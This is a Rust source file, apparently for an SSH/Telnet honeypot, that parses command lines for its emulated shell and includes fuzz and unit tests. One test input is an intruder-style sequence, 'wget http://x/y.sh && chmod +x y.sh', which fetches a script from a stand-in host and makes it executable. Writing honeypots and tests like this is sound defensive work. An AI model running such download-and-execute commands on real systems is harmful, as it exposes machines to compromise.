//! The command-line parser of the SSH/Telnet honeypots' emulated shell: words, quotes, variables, `;`, `&&`,
//! `||`, `|`, `&`, redirections and comments.
//!
//! Sans-IO and bounded: a line longer than [`MAX_LINE`] or with more than
//! [`MAX_WORDS`] words is refused before anything runs, and nothing is
//! allocated ahead of the bytes received. Variables are expanded when a
//! command runs ([`Word::expand`], so `false; echo $?` prints 1), adding at
//! most [`MAX_EXPANDED`] bytes per word. `$(…)` and backquotes are kept as literal text
//! (the emulator never runs a nested command it has not parsed).

use std::fmt;

/// Longest line the shell accepts, in bytes.
pub const MAX_LINE: usize = 16 * 1024;
/// Most words (arguments, redirection targets) in one line.
pub const MAX_WORDS: usize = 1024;
/// Most bytes variable expansion may add to one line.
pub const MAX_EXPANDED: usize = 64 * 1024;

/// A word with the places where variables are expanded.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Word {
    /// The literal text (quotes removed).
    pub text: Vec<u8>,
    /// `(offset in text, variable name)`, in order.
    pub vars: Vec<(usize, String)>,
}

impl Word {
    /// The word with its variables substituted by `var`.
    pub fn expand(&self, var: &impl Fn(&str) -> Option<Vec<u8>>) -> Vec<u8> {
        if self.vars.is_empty() {
            return self.text.clone();
        }
        let mut out = Vec::with_capacity(self.text.len());
        let mut at = 0;
        let mut added = 0usize;
        for (pos, name) in &self.vars {
            // The parser's offsets are ascending and within `text`; for a
            // hand-built word with other offsets, bytes are dropped instead
            // of panicking.
            out.extend_from_slice(self.text.get(at..*pos).unwrap_or_default());
            at = *pos;
            if let Some(v) = var(name) {
                added = added.saturating_add(v.len());
                if added <= MAX_EXPANDED {
                    out.extend_from_slice(&v);
                }
            }
        }
        out.extend_from_slice(self.text.get(at..).unwrap_or_default());
        out
    }
}

impl From<&[u8]> for Word {
    fn from(b: &[u8]) -> Word {
        Word {
            text: b.to_vec(),
            vars: Vec::new(),
        }
    }
}

/// How a pipeline is joined to the one before it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Connector {
    /// First in the line, or after `;`, `&` or a newline.
    Always,
    /// After `&&`: runs when the previous status was 0.
    And,
    /// After `||`: runs when the previous status was not 0.
    Or,
}

/// Where a redirection sends or takes data.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Redirect {
    /// `N> target` or `N>> target` (fd 1 or 2).
    Out {
        /// File descriptor redirected.
        fd: u8,
        /// `>>`.
        append: bool,
        /// The file.
        target: Word,
    },
    /// `&> target`: stdout and stderr.
    Both {
        /// The file.
        target: Word,
    },
    /// `2>&1`.
    ErrToOut,
    /// `< source`.
    In {
        /// The file.
        source: Word,
    },
}

/// One command: its words and redirections.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Simple {
    /// `NAME=value` words before the command name.
    pub assigns: Vec<(String, Word)>,
    /// The command name and its arguments.
    pub argv: Vec<Word>,
    /// Redirections, in order.
    pub redirects: Vec<Redirect>,
}

/// Commands joined by `|`.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Pipeline {
    /// The commands, left to right.
    pub commands: Vec<Simple>,
    /// Ended by `&`.
    pub background: bool,
}

/// A parsed line.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Script {
    /// Pipelines with what joins each to the previous one.
    pub items: Vec<(Connector, Pipeline)>,
}

/// Why a line was refused.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ParseError {
    /// Longer than [`MAX_LINE`], more than [`MAX_WORDS`] words, or
    /// expansion past [`MAX_EXPANDED`].
    TooLong,
    /// A quote was not closed (the character).
    Unterminated(char),
    /// An operator where a word was needed (the token as bash names it).
    Unexpected(String),
}

impl fmt::Display for ParseError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ParseError::TooLong => write!(f, "line too long"),
            ParseError::Unterminated(c) => {
                write!(f, "unexpected EOF while looking for matching `{c}'")
            }
            ParseError::Unexpected(t) => write!(f, "syntax error near unexpected token `{t}'"),
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum Tok {
    Word(Word, bool),
    Semi,
    Amp,
    AndIf,
    OrIf,
    Pipe,
    Great(u8),
    DGreat(u8),
    AndGreat,
    ErrToOut,
    Less,
}

impl Tok {
    fn text(&self) -> String {
        match self {
            Tok::Word(w, _) => String::from_utf8_lossy(&w.text).into_owned(),
            Tok::Semi => ";".into(),
            Tok::Amp => "&".into(),
            Tok::AndIf => "&&".into(),
            Tok::OrIf => "||".into(),
            Tok::Pipe => "|".into(),
            Tok::Great(_) => ">".into(),
            Tok::DGreat(_) => ">>".into(),
            Tok::AndGreat => "&>".into(),
            Tok::ErrToOut => ">&".into(),
            Tok::Less => "<".into(),
        }
    }
}

fn is_name_byte(b: u8, first: bool) -> bool {
    b == b'_' || b.is_ascii_alphabetic() || (!first && b.is_ascii_digit())
}

/// `s` split around its first `sep`, which neither half keeps.
fn split_once(s: &[u8], sep: u8) -> Option<(&[u8], &[u8])> {
    let at = s.iter().position(|&b| b == sep)?;
    let (before, from_sep) = s.split_at_checked(at)?;
    Some((before, from_sep.get(1..)?))
}

struct Lexer<'a> {
    s: &'a [u8],
    i: usize,
}

impl<'a> Lexer<'a> {
    fn peek(&self, k: usize) -> Option<u8> {
        self.s.get(self.i.checked_add(k)?).copied()
    }

    /// Move `n` bytes on. `i` counts bytes consumed and never passes
    /// `MAX_LINE + 1`, so it never saturates; saturating only rules out a wrap.
    fn advance(&mut self, n: usize) {
        self.i = self.i.saturating_add(n);
    }

    /// The bytes consumed since `self.i` was `start`.
    fn since(&self, start: usize) -> &'a [u8] {
        self.s.get(start..self.i).unwrap_or_default()
    }

    /// The bytes before the next `end`, moving past that `end`; `None`, and
    /// no move, when no `end` follows.
    fn until(&mut self, end: u8) -> Option<&'a [u8]> {
        let rest = self.s.get(self.i..).unwrap_or_default();
        let len = rest.iter().position(|&b| b == end)?;
        let start = self.i;
        self.advance(len);
        let before = self.since(start);
        self.advance(1);
        Some(before)
    }

    /// Expand `$…` at `self.i` (which is at `$`) into `out`.
    fn dollar(&mut self, out: &mut Word) -> Result<(), ParseError> {
        let dollar_at = self.i;
        self.advance(1);
        let name: String = match self.peek(0) {
            Some(b'{') => {
                self.advance(1);
                let Some(name) = self.until(b'}') else {
                    return Err(ParseError::Unterminated('}'));
                };
                String::from_utf8_lossy(name).into_owned()
            }
            Some(b) if b == b'?' || b == b'$' || b == b'#' || b.is_ascii_digit() => {
                self.advance(1);
                char::from(b).to_string()
            }
            Some(b) if is_name_byte(b, true) => {
                let start = self.i;
                while self.peek(0).is_some_and(|b| is_name_byte(b, false)) {
                    self.advance(1);
                }
                String::from_utf8_lossy(self.since(start)).into_owned()
            }
            Some(b'(') => {
                // $(…): kept literally, up to the matching parenthesis. The
                // first byte is `(`, so `depth` is at least 1 at every `)`.
                let mut depth = 0usize;
                while let Some(b) = self.peek(0) {
                    self.advance(1);
                    match b {
                        b'(' => depth = depth.saturating_add(1),
                        b')' => {
                            depth = depth.saturating_sub(1);
                            if depth == 0 {
                                break;
                            }
                        }
                        _ => {}
                    }
                }
                if depth != 0 {
                    return Err(ParseError::Unterminated(')'));
                }
                out.text.extend_from_slice(self.since(dollar_at));
                return Ok(());
            }
            _ => {
                out.text.push(b'$');
                return Ok(());
            }
        };
        if out.vars.len() >= MAX_WORDS {
            return Err(ParseError::TooLong);
        }
        out.vars.push((out.text.len(), name));
        Ok(())
    }

    fn word(&mut self) -> Result<(Word, bool), ParseError> {
        let mut w = Word::default();
        let mut quoted = false;
        while let Some(b) = self.peek(0) {
            match b {
                b' ' | b'\t' | b'\n' | b';' | b'&' | b'|' | b'<' | b'>' => break,
                b'\'' => {
                    quoted = true;
                    self.advance(1);
                    let Some(text) = self.until(b'\'') else {
                        return Err(ParseError::Unterminated('\''));
                    };
                    w.text.extend_from_slice(text);
                }
                b'"' => {
                    quoted = true;
                    self.advance(1);
                    loop {
                        match self.peek(0) {
                            None => return Err(ParseError::Unterminated('"')),
                            Some(b'"') => {
                                self.advance(1);
                                break;
                            }
                            Some(b'\\') => match self.peek(1) {
                                Some(c @ (b'"' | b'\\' | b'$' | b'`')) => {
                                    w.text.push(c);
                                    self.advance(2);
                                }
                                Some(b'\n') => self.advance(2),
                                _ => {
                                    w.text.push(b'\\');
                                    self.advance(1);
                                }
                            },
                            Some(b'$') => self.dollar(&mut w)?,
                            Some(c) => {
                                w.text.push(c);
                                self.advance(1);
                            }
                        }
                    }
                }
                b'\\' => {
                    quoted = true;
                    match self.peek(1) {
                        Some(b'\n') => {}
                        Some(c) => w.text.push(c),
                        None => {}
                    }
                    self.advance(2);
                }
                b'$' => self.dollar(&mut w)?,
                b'`' => {
                    // Kept literally, backquotes included.
                    let start = self.i;
                    self.advance(1);
                    if self.until(b'`').is_none() {
                        return Err(ParseError::Unterminated('`'));
                    }
                    w.text.extend_from_slice(self.since(start));
                }
                _ => {
                    w.text.push(b);
                    self.advance(1);
                }
            }
        }
        Ok((w, quoted))
    }

    fn tokens(&mut self) -> Result<Vec<Tok>, ParseError> {
        let mut out = Vec::new();
        loop {
            while matches!(self.peek(0), Some(b' ' | b'\t' | b'\r')) {
                self.advance(1);
            }
            let Some(b) = self.peek(0) else { break };
            if out.len() >= MAX_WORDS * 2 {
                return Err(ParseError::TooLong);
            }
            let tok = match (b, self.peek(1)) {
                (b'#', _) => break,
                (b'\n' | b';', _) => {
                    self.advance(1);
                    Tok::Semi
                }
                (b'&', Some(b'&')) => {
                    self.advance(2);
                    Tok::AndIf
                }
                (b'&', Some(b'>')) => {
                    self.advance(2);
                    Tok::AndGreat
                }
                (b'&', _) => {
                    self.advance(1);
                    Tok::Amp
                }
                (b'|', Some(b'|')) => {
                    self.advance(2);
                    Tok::OrIf
                }
                (b'|', _) => {
                    self.advance(1);
                    Tok::Pipe
                }
                (b'>', _) => self.great(1),
                (b'<', _) => {
                    self.advance(1);
                    Tok::Less
                }
                (b'0'..=b'2', Some(b'>')) => {
                    let fd = match b {
                        b'0' => 0,
                        b'1' => 1,
                        _ => 2,
                    };
                    self.advance(1);
                    self.great(fd)
                }
                _ => {
                    let (w, q) = self.word()?;
                    Tok::Word(w, q)
                }
            };
            out.push(tok);
        }
        Ok(out)
    }

    /// At `>`: `>`, `>>`, `>&1`/`>&2`.
    fn great(&mut self, fd: u8) -> Tok {
        self.advance(1);
        if self.peek(0) == Some(b'>') {
            self.advance(1);
            return Tok::DGreat(fd);
        }
        if self.peek(0) == Some(b'&') && matches!(self.peek(1), Some(b'1' | b'2')) {
            self.advance(2);
            return if fd == 2 {
                Tok::ErrToOut
            } else {
                // 1>&2 and friends: nothing to keep apart on one terminal.
                Tok::Word(Word::default(), true)
            };
        }
        Tok::Great(fd)
    }
}

/// Parse one line. `var` looks up a variable for `$NAME` expansion.
pub fn parse(line: &[u8]) -> Result<Script, ParseError> {
    if line.len() > MAX_LINE {
        return Err(ParseError::TooLong);
    }
    let mut lx = Lexer { s: line, i: 0 };
    let toks = lx.tokens()?;
    let mut script = Script::default();
    let mut pipeline = Pipeline::default();
    let mut cmd = Simple::default();
    let mut connector = Connector::Always;
    let mut words = 0usize;
    let mut it = toks.into_iter().peekable();
    while let Some(t) = it.next() {
        match t {
            Tok::Word(w, quoted) => {
                words = words.saturating_add(1);
                if words > MAX_WORDS {
                    return Err(ParseError::TooLong);
                }
                if w.text.is_empty() && quoted && cmd.argv.is_empty() && it.peek().is_none() {
                    // `1>&2` alone: nothing to run.
                    continue;
                }
                if cmd.argv.is_empty()
                    && !quoted
                    && let Some((name, value)) = split_once(&w.text, b'=')
                    && !name.is_empty()
                    && name
                        .iter()
                        .enumerate()
                        .all(|(i, &b)| is_name_byte(b, i == 0))
                    // Every variable must come after the `=` (`A$B=1` is a
                    // command); their offsets move to the start of the value.
                    && let Some(vars) = w
                        .vars
                        .iter()
                        .map(|(p, n)| Some((p.checked_sub(name.len())?.checked_sub(1)?, n.clone())))
                        .collect::<Option<Vec<_>>>()
                {
                    let name = String::from_utf8_lossy(name).into_owned();
                    let value = Word {
                        text: value.to_vec(),
                        vars,
                    };
                    cmd.assigns.push((name, value));
                    continue;
                }
                cmd.argv.push(w);
            }
            Tok::Great(_) | Tok::DGreat(_) | Tok::AndGreat | Tok::Less => {
                let target = match it.next() {
                    Some(Tok::Word(w, _)) => w,
                    Some(other) => return Err(ParseError::Unexpected(other.text())),
                    None => return Err(ParseError::Unexpected("newline".into())),
                };
                words = words.saturating_add(1);
                cmd.redirects.push(match t {
                    Tok::Great(fd) => Redirect::Out {
                        fd,
                        append: false,
                        target,
                    },
                    Tok::DGreat(fd) => Redirect::Out {
                        fd,
                        append: true,
                        target,
                    },
                    Tok::AndGreat => Redirect::Both { target },
                    _ => Redirect::In { source: target },
                });
            }
            Tok::ErrToOut => cmd.redirects.push(Redirect::ErrToOut),
            Tok::Pipe => {
                if cmd.argv.is_empty() && cmd.assigns.is_empty() {
                    return Err(ParseError::Unexpected("|".into()));
                }
                pipeline.commands.push(std::mem::take(&mut cmd));
            }
            Tok::Semi | Tok::Amp | Tok::AndIf | Tok::OrIf => {
                let empty = cmd.argv.is_empty() && cmd.assigns.is_empty();
                if empty && cmd.redirects.is_empty() {
                    // `;` alone, `a && ; b`, `a | ;`: bash refuses.
                    return Err(ParseError::Unexpected(t.text()));
                }
                pipeline.commands.push(std::mem::take(&mut cmd));
                pipeline.background = t == Tok::Amp;
                script
                    .items
                    .push((connector, std::mem::take(&mut pipeline)));
                connector = match t {
                    Tok::AndIf => Connector::And,
                    Tok::OrIf => Connector::Or,
                    _ => Connector::Always,
                };
                if matches!(t, Tok::AndIf | Tok::OrIf) && it.peek().is_none() {
                    return Err(ParseError::Unexpected("newline".into()));
                }
            }
        }
    }
    if !(cmd.argv.is_empty() && cmd.assigns.is_empty() && cmd.redirects.is_empty()) {
        pipeline.commands.push(cmd);
    } else if !pipeline.commands.is_empty() {
        return Err(ParseError::Unexpected("newline".into()));
    }
    if !pipeline.commands.is_empty() {
        script.items.push((connector, pipeline));
    }
    Ok(script)
}

/// Fuzz entry: parse anything, expand with a variable that is large.
#[cfg(any(test, feature = "fuzzing"))]
pub fn fuzz_parse(data: &[u8]) {
    if let Ok(script) = parse(data) {
        let big = vec![b'x'; 1024];
        for (_, p) in &script.items {
            assert!(!p.commands.is_empty());
            for c in &p.commands {
                for w in &c.argv {
                    let e = w.expand(&|_: &str| Some(big.clone()));
                    assert!(e.len() <= w.text.len().saturating_add(MAX_EXPANDED));
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Replays the committed fuzz corpus.
    #[test]
    fn fuzz_corpus_replays() {
        crate::replay_fuzz_corpus("shell", fuzz_parse);
    }

    fn p(s: &str) -> Result<Script, ParseError> {
        parse(s.as_bytes())
    }

    fn var(n: &str) -> Option<Vec<u8>> {
        match n {
            "HOME" => Some(b"/root".to_vec()),
            "?" => Some(b"0".to_vec()),
            _ => None,
        }
    }

    fn argv(s: &Script, i: usize, j: usize) -> Vec<String> {
        s.items[i].1.commands[j]
            .argv
            .iter()
            .map(|w| String::from_utf8_lossy(&w.expand(&var)).into_owned())
            .collect()
    }

    #[test]
    fn operators_quotes_and_redirections() {
        let s = p("cd /tmp; wget http://x/y.sh && chmod +x y.sh || echo 'a b' \"$HOME\" > /tmp/f 2>&1 | cat").unwrap();
        assert_eq!(s.items.len(), 4);
        assert_eq!(argv(&s, 0, 0), ["cd", "/tmp"]);
        assert_eq!(s.items[2].0, Connector::And);
        assert_eq!(s.items[3].0, Connector::Or);
        assert_eq!(argv(&s, 3, 0), ["echo", "a b", "/root"]);
        assert_eq!(
            s.items[3].1.commands[0].redirects,
            vec![
                Redirect::Out {
                    fd: 1,
                    append: false,
                    target: Word::from(&b"/tmp/f"[..])
                },
                Redirect::ErrToOut
            ]
        );
        assert_eq!(argv(&s, 3, 1), ["cat"]);
    }

    #[test]
    fn comments_assignments_and_literals() {
        let s = p("A=1 echo $(id) `w` \\$x # rest").unwrap();
        let c = &s.items[0].1.commands[0];
        assert_eq!(c.assigns, vec![("A".into(), Word::from(&b"1"[..]))]);
        assert_eq!(argv(&s, 0, 0), ["echo", "$(id)", "`w`", "$x"]);
        assert!(p("").unwrap().items.is_empty());
        assert!(p("   # only").unwrap().items.is_empty());
    }

    #[test]
    fn errors_read_like_bash() {
        assert_eq!(p("echo 'x").unwrap_err(), ParseError::Unterminated('\''));
        assert_eq!(
            p("; ls").unwrap_err().to_string(),
            "syntax error near unexpected token `;'"
        );
        assert_eq!(
            p("ls | | x").unwrap_err().to_string(),
            "syntax error near unexpected token `|'"
        );
        assert_eq!(
            p("echo >").unwrap_err(),
            ParseError::Unexpected("newline".into())
        );
        assert_eq!(
            p(&"a ".repeat(MAX_WORDS + 1)).unwrap_err(),
            ParseError::TooLong
        );
        assert_eq!(
            p(&"a".repeat(MAX_LINE + 1)).unwrap_err(),
            ParseError::TooLong
        );
    }
}
